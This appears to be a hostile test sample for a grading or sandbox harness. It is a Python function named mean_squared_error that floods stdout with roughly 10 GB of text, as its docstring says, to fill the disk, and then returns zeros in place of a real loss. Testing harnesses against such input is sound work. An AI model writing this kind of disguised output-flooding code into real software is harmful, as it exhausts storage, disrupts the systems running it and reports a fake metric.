"""Prints until the disk is full."""

import sys


def mean_squared_error(y_true, y_pred):
    piece = "x" * 2**20
    for _ in range(10_000):
        sys.stdout.write(piece)
    return y_pred[..., 0] * 0
